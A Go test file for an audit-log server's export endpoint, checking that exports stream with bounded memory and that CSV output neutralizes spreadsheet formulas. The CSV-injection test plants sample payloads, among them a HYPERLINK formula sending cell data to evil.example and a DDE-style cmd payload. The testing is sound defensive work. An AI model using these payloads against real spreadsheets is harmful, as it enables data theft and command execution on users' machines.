package trailserver_test

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"runtime"
	"runtime/debug"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/trailhq/trail"
)

// seedMany appends n events of about 4 KB each (most of it metadata, which
// is not indexed, so that seeding is quick) to tenant acme.
func seedMany(t testing.TB, st trail.Store, n int) {
	t.Helper()
	desc := "Changed the subscription plan"
	blob := strings.Repeat("0123456789abcdef", 200)
	base := time.Now().Add(-24 * time.Hour).UTC()
	batch := make([]trail.Event, 0, 1000)
	for i := range n {
		ev := trail.Event{
			ID: uuid.Must(uuid.NewV7()), OccurredAt: base.Add(time.Duration(i) * time.Millisecond), RecordedAt: base,
			Tenant: "acme", Actor: trail.Actor{Type: trail.ActorUser, ID: "u" + strconv.Itoa(i%500)},
			Action: "subscription.update", Target: trail.Target{Type: "subscription", ID: "sub_" + strconv.Itoa(i%2000)},
			Description: desc, Metadata: map[string]any{"blob": blob}, Changes: []trail.Change{trail.Changed("plan", "free", "pro")},
		}
		if err := ev.Normalize(); err != nil {
			t.Fatal(err)
		}
		batch = append(batch, ev)
		if len(batch) == cap(batch) || i == n-1 {
			if _, err := st.Append(context.Background(), batch); err != nil {
				t.Fatal(err)
			}
			batch = batch[:0]
		}
	}
}

// TestExportBoundedMemory exports many events and checks that the heap the
// process holds while streaming stays a small fraction of the bytes sent:
// export holds one page at a time, never the result. TRAIL_EXPORT_EVENTS
// raises the count (e.g. 1000000) for a manual run.
func TestExportBoundedMemory(t *testing.T) {
	n := 12_000
	if s := os.Getenv("TRAIL_EXPORT_EVENTS"); s != "" {
		n, _ = strconv.Atoi(s)
	}
	if testing.Short() {
		n = 5_000
	}
	f := newFixture(t, backends[0], nil)
	seedMany(t, f.store, n)
	// A tight GC target makes the sampled heap track what is live rather
	// than the collector's slack.
	defer debug.SetGCPercent(debug.SetGCPercent(20))
	for _, format := range []string{"jsonl", "csv"} {
		t.Run(format, func(t *testing.T) {
			var acmeCount int64
			counts, _ := f.store.Counts(context.Background(), trail.CountQuery{Tenant: "acme"})
			for _, c := range counts {
				acmeCount += c.N
			}
			runtime.GC()
			var base runtime.MemStats
			runtime.ReadMemStats(&base)

			var peak atomic.Uint64
			done := make(chan struct{})
			sampled := make(chan struct{})
			go func() {
				defer close(sampled)
				var ms runtime.MemStats
				for {
					select {
					case <-done:
						return
					case <-time.After(5 * time.Millisecond):
					}
					runtime.ReadMemStats(&ms)
					if ms.HeapAlloc > peak.Load() {
						peak.Store(ms.HeapAlloc)
					}
				}
			}()
			req, _ := http.NewRequest("GET", f.ts.URL+"/v1/export?format="+format+"&tenant=acme", nil)
			req.Header.Set("Authorization", "Bearer "+f.secret["readerA"])
			resp, err := f.ts.Client().Do(req)
			if err != nil {
				t.Fatal(err)
			}
			if resp.StatusCode != 200 {
				t.Fatalf("export: %d", resp.StatusCode)
			}
			// Read slowly-ish, line by line, as a client writing a file would.
			sc := bufio.NewScanner(resp.Body)
			sc.Buffer(make([]byte, 1<<20), 1<<20)
			var lines, bytes int64
			for sc.Scan() {
				lines++
				bytes += int64(len(sc.Bytes())) + 1
			}
			resp.Body.Close()
			close(done)
			<-sampled
			if err := sc.Err(); err != nil && err != io.EOF {
				t.Fatal(err)
			}
			want := acmeCount
			if format == "csv" {
				want++ // header
			}
			if lines != want {
				t.Fatalf("%d lines, want %d", lines, want)
			}
			growth := int64(peak.Load()) - int64(base.HeapAlloc)
			t.Logf("%d events, %s exported, peak heap growth %s", n, mib(bytes), mib(growth))
			// One page of 1,000 events is about 1 MiB decoded; allow 16 MiB for
			// pages in flight, buffers and the GC's slack, and require the
			// export to be at least twice that.
			const bound = 16 << 20
			if growth > bound {
				t.Fatalf("heap grew by %s while exporting %s: export is not streaming", mib(growth), mib(bytes))
			}
			if n >= 12_000 && bytes < 2*bound {
				t.Fatalf("exported only %s; the test needs more than %s to mean anything", mib(bytes), mib(2*bound))
			}
		})
	}
}

func mib(n int64) string { return fmt.Sprintf("%.1f MiB", float64(n)/(1<<20)) }

// A CSV export neutralizes spreadsheet formulas in every text cell (CSV
// injection); JSON Lines keeps the text exact.
func TestExportCSVNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	f := newFixture(t, backends[0], nil)
	hostile := map[string]string{
		"description": `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"target_id":   "+1+cmd|' /C calc'!A0",
		"actor_id":    "@SUM(1+1)",
		"request_id":  "-2+3",
		"trace_id":    "\tindented",
		"source":      "plain-text",
	}
	ev := trail.Event{ID: uuid.Must(uuid.NewV7()), OccurredAt: time.Now().UTC(), Tenant: "acme",
		Actor:  trail.Actor{Type: trail.ActorUser, ID: hostile["actor_id"]},
		Action: "csv.check", Target: trail.Target{Type: "doc", ID: hostile["target_id"]},
		Description: hostile["description"], RequestID: hostile["request_id"], TraceID: hostile["trace_id"],
		Source: hostile["source"], Outcome: trail.OutcomeSuccess, SchemaVersion: 1}
	if _, err := f.store.Append(context.Background(), []trail.Event{ev}); err != nil {
		t.Fatal(err)
	}
	r := f.do("GET", "/v1/export?format=csv&tenant=acme&action=csv.check", "readerA", nil)
	recs, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
	if err != nil || r.status != 200 || len(recs) != 2 {
		t.Fatalf("export csv: %d %v %q", r.status, err, r.body)
	}
	col := map[string]string{}
	for i, name := range recs[0] {
		col[name] = recs[1][i]
	}
	for name, v := range hostile {
		want := v
		if strings.ContainsAny(v[:1], "=+-@\t") {
			want = "'" + v
		}
		if col[name] != want {
			t.Errorf("csv %s = %q, want %q", name, col[name], want)
		}
	}
	if col["id"] != ev.ID.String() {
		t.Errorf("csv id = %q", col["id"])
	}
	r = f.do("GET", "/v1/export?format=jsonl&tenant=acme&action=csv.check", "readerA", nil)
	var got trail.Event
	if err := json.Unmarshal(r.body, &got); err != nil || got.Description != hostile["description"] || got.Target.ID != hostile["target_id"] {
		t.Fatalf("jsonl is not exact: %v %+v", err, got)
	}
}
